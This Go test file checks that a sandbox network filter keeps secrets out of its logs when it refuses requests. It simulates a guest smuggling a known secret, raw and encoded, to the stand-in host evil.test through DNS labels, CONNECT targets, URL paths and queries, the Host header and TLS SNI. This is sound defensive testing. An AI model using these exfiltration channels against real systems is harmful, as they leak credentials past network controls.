package netfilter

import (
	"github.com/vibedom/vibedom/logredact"
	"github.com/vibedom/vibedom/netfilter/egress"
	"github.com/vibedom/vibedom/netfilter/internal/mitmtest"
	"github.com/vibedom/vibedom/netfilter/internal/stacktest"
	"github.com/vibedom/vibedom/netfilter/mitm"
	"github.com/vibedom/vibedom/netfilter/netstack"

	"bufio"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/vibedom/vibedom/dlp"
)

// TestRefusedRequestSecretsNotLogged: a guest puts a known secret in every
// field of a refused request it controls (DNS name, CONNECT target, SNI,
// Host, path, query), raw and encoded. Not one byte of network.jsonl,
// alerts.jsonl or the session log may hold it; the redaction marker must.
func TestRefusedRequestSecretsNotLogged(t *testing.T) {
	t.Parallel()
	secret := strings.Join([]string{"q7zk4mv9", "xw2pl8rt", "5ny3hc6b"}, "") // a DNS-safe known value, built at run time
	mixed := strings.Join([]string{"Zk4Mv9Xw", "2pL8rT5n"}, "")              // the DNS lower-cases it
	eng, err := dlp.New(dlp.Config{Secrets: []dlp.Secret{{Value: secret, Source: "test"}, {Value: mixed, Source: "test"}}})
	if err != nil {
		t.Fatal(err)
	}
	redact := logredact.LogRedactor(eng)

	dir := t.TempDir()
	slogFile, err := os.OpenFile(filepath.Join(dir, "session.log"), os.O_WRONLY|os.O_CREATE, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	defer slogFile.Close()
	rh := logredact.NewRedactHandler(slog.NewTextHandler(slogFile, &slog.HandlerOptions{Level: slog.LevelDebug}))
	logger := slog.New(rh).With("session", "t")
	rh.SetRedactor(redact)

	v := newTestEnv(t, mitmtest.Rules, func(c *mitm.EngineConfig) { c.Logger = logger.With("part", "proxy") })
	v.log.SetRedactor(redact)
	v.UpstreamTLS("api.test", 443, v.UpCA, http.HandlerFunc(mitmtest.EchoInfo))
	v.UpstreamPlain("plain.test", 80, http.HandlerFunc(mitmtest.EchoInfo))
	proxy := v.ProxyListener()

	b64 := base64.StdEncoding.EncodeToString([]byte(secret))
	b64url := base64.RawURLEncoding.EncodeToString([]byte(secret))
	hx := hex.EncodeToString([]byte(secret))
	forbidden := []string{secret, b64, strings.TrimRight(b64, "="), b64url, hx, strings.ToUpper(hx), url.QueryEscape(b64), mixed}

	// DNS: the raw secret and its hex form as labels under a refused name.
	n := startEngineNet(t, netstack.StackConfig{Resolver: &stacktest.Resolver{}}, v.Policy, v.Eng, egress.EventSinkFunc(func(e egress.Event) { v.log.Record(e); v.Events.Record(e) }), logger.With("part", "network"))
	g := n.guest(t)
	for _, name := range []string{secret + ".evil.test", hx + ".evil.test", "x." + strings.ToUpper(secret) + ".evil.test", "a." + mixed + ".evil.test"} {
		g.Lookup(t, name+".", dnsmessage.TypeA)
	}

	// CONNECT target and absolute URI (path and query) through the explicit proxy.
	for _, req := range []string{
		fmt.Sprintf("CONNECT %s.evil.test:443 HTTP/1.1\r\nHost: %[1]s.evil.test:443\r\n\r\n", secret),
		fmt.Sprintf("GET http://evil.test/p/%s/%s?q=%s&b=%s HTTP/1.1\r\nHost: evil.test\r\n\r\n", secret, b64url, secret, url.QueryEscape(b64)),
		fmt.Sprintf("GET http://%s.evil.test/ HTTP/1.1\r\nHost: %[1]s.evil.test\r\n\r\n", hx),
	} {
		conn, err := net.Dial("tcp", proxy.Host)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprint(conn, req)
		conn.SetReadDeadline(time.Now().Add(time.Minute))
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			t.Fatalf("proxy answer to %q: %v", req[:20], err)
		}
		resp.Body.Close()
		conn.Close()
		if resp.StatusCode == 200 {
			t.Fatalf("proxy allowed %q", req[:20])
		}
	}

	// A Host header that disagrees with the admitted name, carrying the
	// secret in the name, the path and the query.
	c := &http.Client{Transport: v.GuestTransport(false)}
	hreq, _ := http.NewRequestWithContext(t.Context(), "GET", "http://plain.test/x/"+secret+"?k="+b64, nil)
	hreq.Host = secret + ".evil.test"
	if resp, err := c.Do(hreq); err == nil {
		resp.Body.Close()
	}

	// SNI naming the secret on a connection admitted for api.test.
	conn := v.GuestConn("api.test", 443)
	tc := tls.Client(conn, &tls.Config{ServerName: secret + ".evil.test", RootCAs: v.CA.Pool()})
	if err := tc.HandshakeContext(t.Context()); err == nil {
		t.Fatal("handshake with a mismatched SNI succeeded")
	}
	conn.Close()

	// Wait until every refusal was recorded, then flush.
	// 4 DNS queries, 3 proxy requests, the Host and the SNI refusal.
	const want = 9
	deadline := time.Now().Add(time.Minute)
	for {
		got := 0
		for _, e := range v.Events.All() {
			if e.Decision == "deny" {
				got++
			}
		}
		if got >= want {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("refusals recorded: %d, want at least %d: %+v", got, want, v.Events.All())
		}
		time.Sleep(10 * time.Millisecond)
	}
	v.log.Close()

	marker := 0
	for _, f := range []string{filepath.Join(v.logDir, NetworkLogFile), filepath.Join(v.logDir, AlertsLogFile), filepath.Join(dir, "session.log")} {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		lower := strings.ToLower(string(data))
		for _, s := range forbidden {
			if strings.Contains(string(data), s) || strings.Contains(lower, strings.ToLower(s)) {
				t.Errorf("%s holds the secret (form %q):\n%s", f, s, data)
			}
		}
		marker += strings.Count(string(data), "[REDACTED")
	}
	if marker < 8 {
		t.Errorf("the logs hold %d redaction markers, want at least one per refused request", marker)
	}
}
